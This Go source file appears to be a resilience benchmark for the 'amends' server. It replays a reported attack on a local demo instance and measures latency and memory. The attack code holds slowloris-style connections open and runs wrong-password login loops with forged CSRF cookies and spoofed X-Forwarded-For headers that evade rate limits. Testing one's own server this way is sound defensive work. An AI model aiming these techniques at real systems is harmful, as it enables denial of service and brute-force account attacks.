// Command attack tries a running amends as issue 18's attacker did: slow
// connections that announce a large body and send a byte now and then
// (and others that never finish their headers), plus sign-in loops with
// wrong passwords, while it measures how long /login and an authenticated
// API read take and how much memory the server process holds.
//
//	go run ./bench/attack -base http://127.0.0.1:18400 -token amd_… -pid 1234
//
// bench/attack.sh starts `amends serve --demo` on a temporary SQLite
// database and runs it.
package main

import (
	"flag"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/url"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

type options struct {
	base, token, email string
	pid                int
	slow, logins       int
	duration, trickle  time.Duration
}

func main() {
	var o options
	flag.StringVar(&o.base, "base", "http://127.0.0.1:18400", "amends base URL")
	flag.StringVar(&o.token, "token", "", "API token for the authenticated read")
	flag.StringVar(&o.email, "email", "lead@amends.example", "an account the login loops also guess at")
	flag.IntVar(&o.pid, "pid", 0, "server process id, to read its RSS")
	flag.IntVar(&o.slow, "slow", 50, "slow connections held open")
	flag.IntVar(&o.logins, "logins", 16, "concurrent sign-in loops")
	flag.DurationVar(&o.duration, "duration", 60*time.Second, "how long to attack")
	flag.DurationVar(&o.trickle, "trickle", 16*time.Second, "time between the slow connections' bytes")
	flag.Parse()
	if o.token == "" {
		fmt.Fprintln(os.Stderr, "attack: -token is required")
		os.Exit(2)
	}
	os.Exit(run(o))
}

func run(o options) int {
	u, err := url.Parse(o.base)
	if err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		return 2
	}
	stop := make(chan struct{})
	var wg sync.WaitGroup
	var reconnects, logins atomic.Int64
	var loginStatus sync.Map // status code -> *atomic.Int64
	for i := range o.slow {
		wg.Add(1)
		go func() { defer wg.Done(); slowClient(u.Host, i%2 == 0, o.trickle, stop, &reconnects) }()
	}
	for i := range o.logins {
		wg.Add(1)
		go func() { defer wg.Done(); loginLoop(o, i, stop, &logins, &loginStatus) }()
	}
	time.Sleep(2 * time.Second) // let the attack settle in

	var loginTimes, apiTimes []time.Duration
	var failures []string
	maxRSS := int64(0)
	client := &http.Client{Timeout: 10 * time.Second}
	end := time.Now().Add(o.duration)
	for time.Now().Before(end) {
		for _, p := range []struct {
			path string
			auth bool
			into *[]time.Duration
		}{{"/login", false, &loginTimes}, {"/api/v1/action-items?limit=50", true, &apiTimes}} {
			took, status, err := probe(client, o.base+p.path, p.auth, o.token)
			*p.into = append(*p.into, took)
			if err != nil || status != 200 || took > time.Second {
				failures = append(failures, fmt.Sprintf("%s: %d in %v (%v)", p.path, status, took.Round(time.Millisecond), err))
			}
		}
		if rss := rssKB(o.pid); rss > maxRSS {
			maxRSS = rss
		}
		time.Sleep(500 * time.Millisecond)
	}
	close(stop)
	wg.Wait()

	fmt.Printf("attack: %d slow connections (reconnected %d times after being cut off), %d sign-in loops (%d attempts",
		o.slow, reconnects.Load(), o.logins, logins.Load())
	loginStatus.Range(func(k, v any) bool {
		fmt.Printf(", %v: %d", k, v.(*atomic.Int64).Load())
		return true
	})
	fmt.Printf("), for %v\n", o.duration)
	report("GET /login", loginTimes)
	report("GET /api/v1/action-items (token)", apiTimes)
	if o.pid > 0 {
		fmt.Printf("server RSS: max %d MB\n", maxRSS/1024)
	}
	fmt.Printf("probes over 1 s or failed: %d\n", len(failures))
	for _, f := range failures {
		fmt.Println("  ", f)
	}
	if len(failures) > 0 || maxRSS > 300*1024 {
		return 1
	}
	return 0
}

// slowClient keeps one slow connection open: a POST that announced a
// 1,000,000-byte body and sends a byte every trickle, or a request whose
// headers never end. When the server cuts it off, it connects again.
func slowClient(host string, body bool, trickle time.Duration, stop chan struct{}, reconnects *atomic.Int64) {
	for first := true; ; first = false {
		if !first {
			reconnects.Add(1)
		}
		c, err := net.Dial("tcp", host)
		if err != nil {
			select {
			case <-stop:
				return
			case <-time.After(time.Second):
				continue
			}
		}
		start := "GET /login HTTP/1.1\r\nHost: " + host + "\r\n"
		if body {
			start = "POST /webhooks/github HTTP/1.1\r\nHost: " + host +
				"\r\nContent-Type: application/json\r\nX-GitHub-Event: issues\r\nContent-Length: 1000000\r\n\r\n{"
		}
		_, err = io.WriteString(c, start)
		for err == nil {
			select {
			case <-stop:
				c.Close()
				return
			case <-time.After(trickle):
			}
			_, err = c.Write([]byte(" "))
		}
		c.Close()
	}
}

// loginLoop signs in with wrong passwords as fast as the server answers,
// with a CSRF cookie and field of its own making (a double submit), every
// other time at the real account and otherwise at a new address, each
// time with a new X-Forwarded-For (believed only where the server trusts
// the loop's address as a proxy).
func loginLoop(o options, i int, stop chan struct{}, n *atomic.Int64, statuses *sync.Map) {
	client := &http.Client{Timeout: 30 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	csrf := strings.Repeat("c", 32)
	for k := 0; ; k++ {
		select {
		case <-stop:
			return
		default:
		}
		email := o.email
		if k%2 == 1 {
			email = fmt.Sprintf("guess-%d-%d@example.com", i, k)
		}
		form := url.Values{"email": {email}, "password": {"wrong-" + strconv.Itoa(k)}, "csrf": {csrf}}
		req, _ := http.NewRequest("POST", o.base+"/login", strings.NewReader(form.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.AddCookie(&http.Cookie{Name: "amends_csrf", Value: csrf})
		req.Header.Set("X-Forwarded-For", fmt.Sprintf("198.51.%d.%d", rand.IntN(256), rand.IntN(256)))
		resp, err := client.Do(req)
		n.Add(1)
		key := "error"
		if err == nil {
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			key = strconv.Itoa(resp.StatusCode)
		}
		v, _ := statuses.LoadOrStore(key, new(atomic.Int64))
		v.(*atomic.Int64).Add(1)
	}
}

func probe(client *http.Client, u string, auth bool, token string) (time.Duration, int, error) {
	req, _ := http.NewRequest("GET", u, nil)
	if auth {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	start := time.Now()
	resp, err := client.Do(req)
	if err != nil {
		return time.Since(start), 0, err
	}
	_, err = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return time.Since(start), resp.StatusCode, err
}

func report(name string, ds []time.Duration) {
	if len(ds) == 0 {
		return
	}
	slices.Sort(ds)
	q := func(p float64) time.Duration {
		return ds[min(len(ds)-1, int(p*float64(len(ds))))].Round(100 * time.Microsecond)
	}
	fmt.Printf("%-34s n=%d p50=%v p90=%v p99=%v max=%v\n", name, len(ds), q(0.5), q(0.9), q(0.99), ds[len(ds)-1].Round(100*time.Microsecond))
}

// rssKB is the process's resident set size from /proc, in KiB.
func rssKB(pid int) int64 {
	if pid <= 0 {
		return 0
	}
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(b), "\n") {
		if rest, ok := strings.CutPrefix(line, "VmRSS:"); ok {
			n, _ := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(rest), "kB")), 10, 64)
			return n
		}
	}
	return 0
}
